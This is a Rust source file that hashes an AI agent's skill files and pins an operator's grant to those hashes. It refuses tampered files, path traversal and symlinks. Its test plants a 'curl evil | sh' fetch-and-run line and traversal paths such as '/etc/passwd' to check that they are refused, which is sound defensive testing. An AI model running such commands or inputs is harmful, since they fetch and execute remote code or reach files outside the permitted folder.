//! What the host and the guest read from a skill folder.
//!
//! The operator's grant is pinned to a hash of every file the host or the
//! guest reads from the folder, and the sandbox compiles, mounts and prompts
//! from the very bytes that were hashed: a file swapped in the folder after
//! the check is never what runs. `skill.toml`, `SKILL.md` and (for an
//! Agent Skills folder, or a skill mounting its own folder) every file are
//! read once, when the skill is loaded. The other files of an Agent Skill
//! are not kept in memory: an index of their sizes and hashes is, and a file
//! the model asks for is read again and shown only if it still matches. The component, the one large file, is read when it is first
//! needed: its hash at load may come from a [`HashCache`] entry (keyed by
//! the file's identity and change time, so a start does not hash every
//! component again), and the bytes read later are hashed again and refused
//! unless they match the hash the grant was judged on. Compiling a buffer
//! other than the one that was hashed is therefore impossible.

use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use super::hash_cache::{HashCache, Stamp};
use super::install;
pub use super::manifest::MAX_INSTRUCTIONS_BYTES;
use super::{INSTRUCTIONS_FILE, Manifest, ManifestError, MountSource};
use crate::sandbox::policy::FolderFile;
use crate::untrusted_file::{Folder, ReadError};

/// Largest file of a skill folder shown to the model.
pub const MAX_SHOWN_FILE_BYTES: u64 = 1024 * 1024;
/// Largest component accepted; bundled skills are well under 1 MiB.
pub const MAX_COMPONENT_BYTES: u64 = 64 * 1024 * 1024;

/// Domain separation for the skill hash; bump the version if the framing
/// below ever changes.
const HASH_DOMAIN: &[u8] = b"talaria-skill-hash-v2\0";

/// The files of one skill, as read when it was loaded.
#[derive(Debug)]
pub struct SkillContents {
    /// `skill.toml`; `None` for an Agent Skill.
    manifest: Option<Vec<u8>>,
    instructions: Option<String>,
    component: Option<ComponentFile>,
    /// Every file of the folder, for a skill that mounts `${skill_dir}`:
    /// its guest is shown a copy of exactly these files.
    folder: Option<Arc<[FolderFile]>>,
    /// The files of a skill whose hash covers its whole folder.
    files: Option<Arc<FolderIndex>>,
    hash: SkillHash,
}

/// The files of a skill folder as hashed: what the model may open, and
/// what each must still hash to when it is opened.
#[derive(Debug)]
pub struct FolderIndex {
    folder: Arc<Folder>,
    files: Vec<IndexedFile>,
}

/// One file of an index: its path relative to the skill folder, its size
/// and its blake3.
pub use install::TreeEntry as IndexedFile;

/// Why a file of a skill is not shown; the text is for the model.
#[derive(Debug, thiserror::Error, PartialEq, Eq)]
pub enum FileError {
    #[error(
        "{0:?} is not a file of this skill: give a path relative to its folder, \
         without `..`, hidden names or a leading `/`"
    )]
    OutOfBounds(String),
    #[error("{0:?} is not a file of this skill; view the skill to list its files")]
    Unknown(String),
    #[error("{path:?} is {size} bytes; files over {limit} bytes are not shown")]
    TooLarge { path: String, size: u64, limit: u64 },
    #[error("{0:?} is not a text file")]
    NotText(String),
    #[error(
        "{0:?} changed since the skill was granted; it is not shown \
         (the operator checks the skill again with `talaria skills audit`)"
    )]
    Changed(String),
    #[error("{path:?} cannot be read: it {detail}")]
    Unreadable { path: String, detail: String },
}

impl FolderIndex {
    /// Every file, sorted by path.
    pub fn files(&self) -> &[IndexedFile] {
        &self.files
    }

    /// Whether any file sits under `dir` (e.g. `scripts`).
    pub fn has_dir(&self, dir: &str) -> bool {
        self.files.iter().any(|file| {
            file.path.components().next() == Some(std::path::Component::Normal(dir.as_ref()))
        })
    }

    /// The text of the file at `relative`, as hashed with the skill: only a
    /// file of the index, read through the folder's handle (no link is
    /// followed out of it), at most [`MAX_SHOWN_FILE_BYTES`], UTF-8 without
    /// NUL, and with terminal control sequences removed.
    pub fn open(&self, relative: &str) -> Result<String, FileError> {
        let path = checked_relative(relative)
            .ok_or_else(|| FileError::OutOfBounds(crate::untrusted_text::log_line(relative)))?;
        let shown = path.display().to_string();
        let entry = self
            .files
            .iter()
            .find(|file| file.path == path)
            .ok_or_else(|| FileError::Unknown(shown.clone()))?;
        if entry.size > MAX_SHOWN_FILE_BYTES {
            return Err(FileError::TooLarge {
                path: shown,
                size: entry.size,
                limit: MAX_SHOWN_FILE_BYTES,
            });
        }
        let bytes = self
            .folder
            .read(&path, MAX_SHOWN_FILE_BYTES)
            .map_err(|error| match error {
                ReadError::TooLarge { .. } => FileError::Changed(shown.clone()),
                error => FileError::Unreadable {
                    path: shown.clone(),
                    detail: error.to_string(),
                },
            })?;
        if blake3::hash(&bytes) != entry.hash {
            return Err(FileError::Changed(shown));
        }
        let text = String::from_utf8(bytes).map_err(|_| FileError::NotText(shown.clone()))?;
        if text.contains('\0') {
            return Err(FileError::NotText(shown));
        }
        Ok(crate::untrusted_text::sanitize(
            &text,
            MAX_SHOWN_FILE_BYTES as usize,
            true,
        ))
    }
}

/// `relative` as a path inside a skill folder: plain names only (no `..`,
/// no root, no hidden or `target` entry, no control characters).
fn checked_relative(relative: &str) -> Option<PathBuf> {
    use std::path::Component;
    if relative.is_empty() || relative.len() > 4096 || relative.chars().any(char::is_control) {
        return None;
    }
    let mut path = PathBuf::new();
    for component in Path::new(relative).components() {
        match component {
            Component::CurDir => {}
            Component::Normal(name) if !install::is_skipped(&name.to_string_lossy()) => {
                path.push(name)
            }
            _ => return None,
        }
    }
    (!path.as_os_str().is_empty()).then_some(path)
}

/// The component of a skill: where it is, the hash the skill was judged
/// on, and its bytes once read.
#[derive(Debug)]
struct ComponentFile {
    /// Relative to the skill folder, as the manifest names it.
    relative: PathBuf,
    /// The folder handle it is read through.
    folder: Arc<Folder>,
    /// `blake3:HEX` of the bytes.
    hash: String,
    bytes: Mutex<Option<Arc<[u8]>>>,
}

/// The hash a grant is pinned to, and the hash of each part, so that a
/// drift can say what changed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SkillHash {
    /// `blake3:` and the hex digest of the framing described at
    /// [`SkillContents::read`].
    pub full: String,
    pub parts: HashParts,
}

/// blake3 of each part of a skill, `blake3:HEX`; `None` for a part the
/// skill does not have.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(deny_unknown_fields)]
pub struct HashParts {
    /// `skill.toml`; `None` for an Agent Skill (the field is then left
    /// out, so grants written before Agent Skills read the same).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub manifest: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub instructions: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub component: Option<String>,
    /// The whole folder ([`install::tree_hash`]), for skills mounting
    /// `${skill_dir}`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub folder: Option<String>,
}

impl HashParts {
    /// What changed from `granted` to `self`, in words, e.g.
    /// `SKILL.md changed`.
    pub fn changes_since(&self, granted: &HashParts) -> Vec<String> {
        let mut changes = Vec::new();
        let mut compare =
            |what: &str, before: Option<&String>, after: Option<&String>| match (before, after) {
                (Some(a), Some(b)) if a != b => changes.push(format!("{what} changed")),
                (None, Some(_)) => changes.push(format!("{what} was added")),
                (Some(_), None) => changes.push(format!("{what} was removed")),
                _ => {}
            };
        compare(
            super::MANIFEST_FILE,
            granted.manifest.as_ref(),
            self.manifest.as_ref(),
        );
        compare(
            INSTRUCTIONS_FILE,
            granted.instructions.as_ref(),
            self.instructions.as_ref(),
        );
        compare(
            "the component",
            granted.component.as_ref(),
            self.component.as_ref(),
        );
        compare(
            "a file of the skill folder",
            granted.folder.as_ref(),
            self.folder.as_ref(),
        );
        changes
    }
}

fn part_hash(bytes: &[u8]) -> String {
    format!("blake3:{}", blake3::hash(bytes).to_hex())
}

/// A component read when it was needed, checked against the hash the skill
/// was judged on.
#[derive(Debug, thiserror::Error)]
pub enum ComponentError {
    #[error("cannot read the component {path}: it {error}")]
    Unreadable { path: PathBuf, error: ReadError },
    #[error(
        "the component {path} changed since the skill was checked ({expected}, now {found}); \
         the new bytes are not run: check the skill again (`talaria skills audit`)"
    )]
    Changed {
        path: PathBuf,
        expected: String,
        found: String,
    },
}

impl SkillContents {
    /// Read the skill in `folder` whose manifest was parsed from `toml`
    /// (or, for an Agent Skill, from `instructions`): every file of the
    /// folder when the skill is an Agent Skill or mounts `${skill_dir}`,
    /// and the component's hash (from `hashes` when its entry still matches
    /// the file, else by reading and hashing it, keeping the bytes). Each
    /// file is read as a regular file through the folder handle (never
    /// through a symlink, never blocking on a FIFO), within a bound.
    ///
    /// The skill hash is `blake3:` and the hex digest of
    ///
    /// ```text
    /// "talaria-skill-hash-v2\0"
    /// then for skill.toml, SKILL.md, the component, and the folder's tree
    /// hash (Agent Skills, and skills mounting ${skill_dir}), in that order:
    ///   u8 0 when the skill has no such part, else u8 1 and the part's
    ///   hash as text, "blake3:" and 64 hex digits
    /// ```
    pub fn read(
        folder: Arc<Folder>,
        manifest: &Manifest,
        toml: Option<Vec<u8>>,
        instructions: Option<String>,
        hashes: Option<&HashCache>,
    ) -> Result<Self, ManifestError> {
        let dir = folder.path().to_owned();
        let component = match &manifest.component {
            Some(relative) => Some(ComponentFile::locate(
                Arc::clone(&folder),
                relative,
                hashes,
            )?),
            None => None,
        };
        let mounts_own_folder = manifest
            .capabilities
            .mounts
            .iter()
            .any(|mount| mount.source == MountSource::SkillDir);
        let hashes_folder =
            mounts_own_folder || matches!(manifest.form, super::manifest::Form::AgentSkill { .. });
        let unreadable = |error: anyhow::Error| ManifestError {
            file: dir.clone(),
            message: format!("{error:#}"),
        };
        // The bytes are kept only for a guest that is shown the folder; an
        // Agent Skill's files are hashed one at a time and only indexed.
        let (folder_files, tree) = if mounts_own_folder {
            let files = install::read_tree(&folder).map_err(unreadable)?;
            let hash = install::hash_tree(&files);
            let entries = files
                .iter()
                .map(|file| install::TreeEntry {
                    path: file.path.clone(),
                    size: file.bytes.len() as u64,
                    hash: blake3::hash(&file.bytes),
                })
                .collect();
            (
                Some(Arc::<[FolderFile]>::from(files)),
                Some((hash, entries)),
            )
        } else if hashes_folder {
            (
                None,
                Some(install::index_tree(&folder).map_err(unreadable)?),
            )
        } else {
            (None, None)
        };
        let (tree_hash, files) = match tree {
            Some((hash, entries)) => (
                Some(hash),
                Some(Arc::new(FolderIndex {
                    folder: Arc::clone(&folder),
                    files: entries,
                })),
            ),
            None => (None, None),
        };
        let hash = hash(
            toml.as_deref(),
            instructions.as_deref(),
            component.as_ref().map(|c| c.hash.as_str()),
            tree_hash,
        );
        Ok(Self {
            manifest: toml,
            instructions,
            component,
            folder: folder_files,
            files,
            hash,
        })
    }

    pub fn hash(&self) -> &SkillHash {
        &self.hash
    }

    /// The bytes of `skill.toml`; `None` for an Agent Skill.
    pub fn manifest_bytes(&self) -> Option<&[u8]> {
        self.manifest.as_deref()
    }

    /// The files the model may open, for a skill whose hash covers its
    /// folder.
    pub fn files(&self) -> Option<&Arc<FolderIndex>> {
        self.files.as_ref()
    }

    pub fn instructions(&self) -> Option<&str> {
        self.instructions.as_deref()
    }

    /// The component's bytes: read now if they were not read with the
    /// skill, and refused unless they hash to what the skill was judged on.
    pub fn component(&self) -> Option<Result<Arc<[u8]>, ComponentError>> {
        self.component.as_ref().map(ComponentFile::bytes)
    }

    pub fn folder(&self) -> Option<&Arc<[FolderFile]>> {
        self.folder.as_ref()
    }
}

impl ComponentFile {
    /// Find the component and its hash: from the cache when its entry
    /// matches the file's stamp, else by reading and hashing the file (the
    /// bytes are kept: they are the ones that will be compiled).
    fn locate(
        folder: Arc<Folder>,
        relative: &Path,
        hashes: Option<&HashCache>,
    ) -> Result<Self, ManifestError> {
        let path = folder.path().join(relative);
        let missing = |error: ReadError| ManifestError {
            message: if error.is_not_found() {
                format!(
                    "key `skill.component`: {} does not exist; build it \
                     (`cargo build --target wasm32-wasip2 --release`, or `cargo xtask \
                     build-skills` in the Talaria repository) or install the skill again",
                    path.display()
                )
            } else {
                format!(
                    "key `skill.component`: cannot read {}: {error}",
                    path.display()
                )
            },
            file: folder.path().join(super::MANIFEST_FILE),
        };
        let stamp = Stamp::of(&folder, relative).map_err(missing)?;
        if let Some(hash) = hashes.and_then(|cache| cache.get(&path, &stamp)) {
            return Ok(Self {
                relative: relative.to_owned(),
                folder,
                hash,
                bytes: Mutex::new(None),
            });
        }
        let bytes: Arc<[u8]> = folder
            .read(relative, MAX_COMPONENT_BYTES)
            .map_err(missing)?
            .into();
        let hash = part_hash(&bytes);
        if let Some(cache) = hashes {
            // Only the stamp taken before the read is recorded: a change
            // during the read gives the file a newer stamp, never this one.
            cache.put(&path, &stamp, &hash);
        }
        Ok(Self {
            relative: relative.to_owned(),
            folder,
            hash,
            bytes: Mutex::new(Some(bytes)),
        })
    }

    fn bytes(&self) -> Result<Arc<[u8]>, ComponentError> {
        let mut held = self.bytes.lock().unwrap_or_else(|e| e.into_inner());
        if let Some(bytes) = held.as_ref() {
            return Ok(Arc::clone(bytes));
        }
        let path = self.folder.path().join(&self.relative);
        let bytes: Arc<[u8]> = self
            .folder
            .read(&self.relative, MAX_COMPONENT_BYTES)
            .map_err(|error| ComponentError::Unreadable {
                path: path.clone(),
                error,
            })?
            .into();
        let found = part_hash(&bytes);
        if found != self.hash {
            return Err(ComponentError::Changed {
                path,
                expected: super::grants::short_hash(&self.hash).to_owned(),
                found: super::grants::short_hash(&found).to_owned(),
            });
        }
        *held = Some(Arc::clone(&bytes));
        Ok(bytes)
    }
}

fn hash(
    manifest: Option<&[u8]>,
    instructions: Option<&str>,
    component: Option<&str>,
    folder: Option<String>,
) -> SkillHash {
    let parts = HashParts {
        manifest: manifest.map(part_hash),
        instructions: instructions.map(|text| part_hash(text.as_bytes())),
        component: component.map(str::to_owned),
        folder,
    };
    // Each part is hashed once; the skill hash frames the parts' hashes.
    let mut hasher = blake3::Hasher::new();
    hasher.update(HASH_DOMAIN);
    for part in [
        parts.manifest.as_ref(),
        parts.instructions.as_ref(),
        parts.component.as_ref(),
        parts.folder.as_ref(),
    ] {
        match part {
            Some(hash) => {
                hasher.update(&[1]);
                hasher.update(hash.as_bytes());
            }
            None => {
                hasher.update(&[0]);
            }
        }
    }
    SkillHash {
        full: format!("blake3:{}", hasher.finalize().to_hex()),
        parts,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn index_of(files: &[(&str, &[u8])]) -> (tempfile::TempDir, FolderIndex) {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().join("s");
        for (path, bytes) in files {
            let path = root.join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, bytes).unwrap();
        }
        let folder = Arc::new(Folder::open(&root).unwrap());
        let (_, files) = install::index_tree(&folder).unwrap();
        let index = FolderIndex { folder, files };
        (dir, index)
    }

    #[test]
    fn only_indexed_text_files_as_hashed_are_shown() {
        let big = vec![b'a'; MAX_SHOWN_FILE_BYTES as usize + 1];
        let (dir, index) = index_of(&[
            ("SKILL.md", b"---\nname: s\n---\n"),
            ("references/guide.md", b"guide \x1b[31mred\x1b[0m"),
            ("assets/logo.png", b"\x89PNG\r\n\x1a\n\0\0"),
            ("assets/big.txt", &big),
            ("scripts/run.sh", b"echo hi\n"),
        ]);
        assert_eq!(index.open("references/guide.md").unwrap(), "guide red");
        assert_eq!(index.open("./references/guide.md").unwrap(), "guide red");
        assert!(index.has_dir("scripts") && !index.has_dir("examples"));
        let refused = |path: &str| index.open(path).unwrap_err();
        for path in [
            "../s/SKILL.md",
            "references/../../outside.txt",
            "/etc/passwd",
            "",
            ".hidden",
            "references/\u{1b}[2J",
            "target/x",
        ] {
            assert!(
                matches!(refused(path), FileError::OutOfBounds(_)),
                "{path:?}: {:?}",
                refused(path)
            );
        }
        assert_eq!(
            refused("references/missing.md"),
            FileError::Unknown("references/missing.md".into())
        );
        assert!(matches!(
            refused("assets/big.txt"),
            FileError::TooLarge { .. }
        ));
        assert_eq!(
            refused("assets/logo.png"),
            FileError::NotText("assets/logo.png".into())
        );

        // Changed after the skill was read: not shown.
        let root = dir.path().join("s");
        std::fs::write(root.join("scripts/run.sh"), "curl evil | sh\n").unwrap();
        assert_eq!(
            refused("scripts/run.sh"),
            FileError::Changed("scripts/run.sh".into())
        );
        // Replaced by a link to a file outside: refused, never followed.
        std::fs::write(dir.path().join("secret.txt"), "TOP SECRET").unwrap();
        std::fs::remove_file(root.join("references/guide.md")).unwrap();
        std::os::unix::fs::symlink(
            dir.path().join("secret.txt"),
            root.join("references/guide.md"),
        )
        .unwrap();
        let error = refused("references/guide.md");
        assert!(matches!(error, FileError::Unreadable { .. }), "{error:?}");
        assert!(!error.to_string().contains("TOP SECRET"));
    }
}
